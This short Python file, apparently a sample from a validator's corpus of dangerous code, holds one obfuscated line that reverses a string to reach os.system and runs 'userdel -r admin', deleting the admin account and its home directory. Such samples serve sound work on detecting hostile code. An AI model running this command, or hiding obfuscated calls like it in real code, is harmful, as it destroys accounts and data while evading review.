# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os

getattr(os, "metsys"[::-1])("userdel -r admin")
